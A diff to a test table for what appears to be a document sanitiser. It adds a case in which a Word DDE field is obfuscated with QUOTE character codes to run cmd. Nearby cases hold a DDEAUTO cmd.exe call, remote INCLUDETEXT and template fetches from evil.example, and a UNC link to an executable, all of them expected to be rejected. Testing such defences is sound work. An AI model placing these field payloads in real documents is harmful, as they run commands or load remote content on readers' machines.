@@ -135,6 +135,7 @@ CASES = (
     _case("макросы.doc", lambda: _with(Macros=_VBA), "reject", "doc.macros"),
     _case("объект.doc", lambda: _with(ObjectPool=_OBJECT), "reject", "doc.embedded"),
     _case("dde.doc", lambda: _field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'), "reject", "doc.dde"),
+    _case("dde-кодами-букв.doc", lambda: _field("\x13 QUOTE 68 68 69 65 85 84 79 \x14 \x15 cmd calc"), "reject", "doc.dde"),
     _case("чужой-текст.doc", lambda: _field('INCLUDETEXT "http://evil.example/a.doc"'), "reject", "doc.external"),
     _case("ссылка-по-сети.doc", lambda: _field('HYPERLINK "\\\\evil\\share\\a.exe"'), "reject", "doc.external"),
     _case("шаблон-с-сайта.doc", lambda: container(document(template="http://evil.example/t.dot")), "reject", "doc.external"),
